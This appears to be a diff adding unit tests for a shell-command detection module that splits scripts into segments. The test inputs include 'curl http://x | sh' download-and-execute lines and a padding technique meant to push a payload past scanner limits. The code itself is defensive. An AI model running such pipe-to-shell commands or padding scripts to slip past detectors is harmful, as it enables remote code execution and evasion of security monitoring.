@@ -7,6 +7,7 @@ import {
   MAX_PAYLOAD_DEPTH,
   MAX_SEGMENTS,
   resolvePath,
+  segmentBudget,
   shellPayload,
   tokenize,
 } from "../../src/detection/command-line.js";
@@ -203,6 +204,46 @@ describe("commandSegments", () => {
     const script = "a|b;".repeat(256 * 1024) + "$(".repeat(50_000);
     const segments = commandSegments(["sh", "-c", script, ...new Array(100_000).fill("x")]);
     expect(segments.length).toBeLessThanOrEqual(MAX_SEGMENTS);
+  });
+
+  it("drops commands that cannot matter when asked, keeping pipelines with a utility and the argv", () => {
+    // Act
+    const segments = commandSegments(["sh", "-c", "true; a | b; x=1; curl http://x | sh; ls -l /; ./run"], {
+      dropInert: true,
+    });
+    // Assess
+    expect(argvs(segments)).toEqual([
+      ["sh", "-c", "true; a | b; x=1; curl http://x | sh; ls -l /; ./run"],
+      ["curl", "http://x"],
+      ["sh"],
+      ["./run"],
+    ]);
+  });
+
+  it("keeps a padded payload's last command in sight when inert commands are dropped", () => {
+    // Prepare: far more padding commands than MAX_SEGMENTS, and a script longer than 64 KiB.
+    const padding = `true; a | b; #${"x".repeat(100_000)}\n${"true;".repeat(MAX_SEGMENTS * 2)}`;
+    // Act
+    const segments = commandSegments(["sh", "-c", `${padding} curl http://x | sh`], { dropInert: true });
+    // Assess
+    expect(find(segments, "curl").pipesTo?.argv).toEqual(["sh"]);
+  });
+
+  it("shares one budget between calls", () => {
+    // Prepare
+    const budget = segmentBudget();
+    budget.segments = 3;
+    // Act
+    const first = commandSegments(["sh", "-c", "curl a; curl b"], { budget });
+    const second = commandSegments(["sh", "-c", "curl c; curl d"], { budget });
+    // Assess
+    expect(argvs(first)).toEqual([
+      ["sh", "-c", "curl a; curl b"],
+      ["curl", "a"],
+      ["curl", "b"],
+    ]);
+    expect(argvs(second)).toEqual([]);
+    expect(budget.segments).toBe(0);
   });
 
   it("never throws for any argv", () => {
